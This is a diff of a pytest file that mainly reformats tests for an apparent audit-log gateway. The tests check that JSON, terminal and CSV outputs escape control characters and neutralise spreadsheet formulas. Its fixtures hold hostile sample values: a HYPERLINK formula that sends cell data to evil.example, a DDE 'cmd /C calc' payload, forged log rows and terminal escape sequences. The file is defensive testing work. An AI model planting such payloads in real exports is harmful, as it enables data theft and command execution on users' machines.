@@ -20,8 +20,8 @@ from pathlib import Path
 import pytest
 import structlog
 from aiohttp import web
-
 from conftest import SAMPLE_PATH, GatewayFactory, Peer, basic, make_config, rows
+
 from gateway.audit.chain import ChainKey
 from gateway.audit.formats import FORMULA_STARTS, RecordStream, spreadsheet_safe
 from gateway.audit.record import AuditRecord
@@ -34,7 +34,7 @@ HIDE = "\x1b[8m"
 """Conceals everything printed after it: the rows of older records, in a table."""
 FORGED_ROW = "evil\r\n1   2026-01-01  deleted    admin"
 """A claimed user name (no ':', which would end it) that would print as a row of its own."""
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 REVERSED = "\u202etxt.exe"
 TITLE = "\x1b]0;pwned\x07\x9b2J\u2028\U000e0041"
 """An xterm title sequence, an 8-bit CSI (C1), a line separator and a Unicode tag character."""
@@ -55,7 +55,9 @@ async def database(tmp_path: Path, gateway: GatewayFactory, peer: Peer) -> Path:
     snapshot carries hostile app and client id."""
 
     async def answer(request: web.Request) -> web.Response:
-        return web.json_response({"app": FORMULA, "clientId": REVERSED + TITLE, "token": "x" * 20, "note": "-2+3+cmd|' /C calc'!A0"})
+        return web.json_response(
+            {"app": FORMULA, "clientId": REVERSED + TITLE, "token": "x" * 20, "note": "-2+3+cmd|' /C calc'!A0"}
+        )
 
     peer.respond = answer
     client = await gateway(make_config(tmp_path, upstream=peer.url, throttle={"max_failures": 0}))
@@ -99,10 +101,17 @@ def test_stats_escape_too(database: Path, capsys: pytest.CaptureFixture[str]) ->
 
 @pytest.mark.parametrize(
     "command",
-    [("audit", "query", "--format", "json"), ("audit", "query", "--format", "jsonl"), ("audit", "export"), ("audit", "show", "4"),
-     ("audit", "show", "2")],
+    [
+        ("audit", "query", "--format", "json"),
+        ("audit", "query", "--format", "jsonl"),
+        ("audit", "export"),
+        ("audit", "show", "4"),
+        ("audit", "show", "2"),
+    ],
 )
-def test_json_outputs_are_exact_and_escaped(database: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]) -> None:
+def test_json_outputs_are_exact_and_escaped(
+    database: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
+) -> None:
     """JSON escapes are safe: the output holds no raw control or format character, and decodes
     to the exact stored values. (`audit export` to a file or pipe, as here, leaves the ones JSON
     itself does not escape: see the next test.)"""
@@ -115,11 +124,16 @@ def test_json_outputs_are_exact_and_escaped(database: Path, capsys: pytest.Captu
     elif "json" in command:
         records = json.loads(out)
     else:
-        records = [json.loads(line) for line in out.split("\n") if line]  # not splitlines: U+2028 is no line end in JSON
+        records = [
+            json.loads(line) for line in out.split("\n") if line
+        ]  # not splitlines: U+2028 is no line end in JSON
     stored = {row["id"]: row for row in rows(database)}
     for record in records:
         assert (stored[record["id"]]["actor"], stored[record["id"]]["app"], stored[record["id"]]["client_id"]) == (
-            record["actor"], record["app"], record["client_id"])
+            record["actor"],
+            record["app"],
+            record["client_id"],
+        )
     if command[-1] == "4":
         assert (FORMULA, REVERSED + TITLE) == (records[0]["snapshot"]["app"], records[0]["snapshot"]["clientId"])
 
@@ -130,13 +144,28 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(database: Path, capsy
         assert 0 == status
         records = {row["id"]: row for row in csv.DictReader(io.StringIO(out, newline=""))}
         assert ("'" + FORMULA, REVERSED + TITLE, HIDE, FORGED_ROW) == (
-            records["4"]["app"], records["4"]["client_id"], records["1"]["actor"], records["2"]["actor"])
+            records["4"]["app"],
+            records["4"]["client_id"],
+            records["1"]["actor"],
+            records["2"]["actor"],
+        )
         assert "'-2+3+cmd" not in out  # inside the snapshot's JSON the formula is not at a cell's start
 
 
 def test_an_export_escapes_on_a_terminal_and_writes_orjson_bytes_elsewhere() -> None:
-    record = AuditRecord("r", "t", HIDE + REVERSED + TITLE, None, "DELETE", None, None, None, "deleted",
-                         snapshot='{"app":"' + REVERSED + '"}', id=1)
+    record = AuditRecord(
+        "r",
+        "t",
+        HIDE + REVERSED + TITLE,
+        None,
+        "DELETE",
+        None,
+        None,
+        None,
+        "deleted",
+        snapshot='{"app":"' + REVERSED + '"}',
+        id=1,
+    )
     for_terminal, for_file = io.StringIO(), io.StringIO()
     RecordStream("jsonl", for_terminal).write_all([record])
     RecordStream("jsonl", for_file, for_terminal=False).write_all([record])
@@ -156,14 +185,30 @@ def test_spreadsheet_safe_follows_the_owasp_rule(start: str) -> None:
 def test_every_unsafe_character_is_escaped_and_nothing_else() -> None:
     """Every code point of categories Cc, Cf, Cs, Zl and Zp in this Python's Unicode database."""
     unsafe = "".join(chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) in UNSAFE_CATEGORIES)
-    assert {"\x1b", "\r", "\n", "\x7f", "\x85", "\x9b", "\u200b", "\u202e", "\u2066", "\u2069", "\u2028", "\ufeff",
-            "\U000e0041", "\ud800"} <= set(unsafe)
+    assert {
+        "\x1b",
+        "\r",
+        "\n",
+        "\x7f",
+        "\x85",
+        "\x9b",
+        "\u200b",
+        "\u202e",
+        "\u2066",
+        "\u2069",
+        "\u2028",
+        "\ufeff",
+        "\U000e0041",
+        "\ud800",
+    } <= set(unsafe)
     escaped = printable(unsafe)
     assert visible(escaped) and escaped.isascii()
     assert unsafe == escaped.encode().decode("unicode_escape")  # \uXXXX and \UXXXXXXXX, as in Python and TOML
     plain = "admin é ü 名前 …c7vC 🙂 \u00a0x"
     assert plain == printable(plain)
-    document = json.dumps({"v": "".join(c for c in unsafe if unicodedata.category(c) != "Cs")}, ensure_ascii=False, indent=2)
+    document = json.dumps(
+        {"v": "".join(c for c in unsafe if unicodedata.category(c) != "Cs")}, ensure_ascii=False, indent=2
+    )
     assert visible(printable_json(document))
     assert json.loads(document) == json.loads(printable_json(document))
 
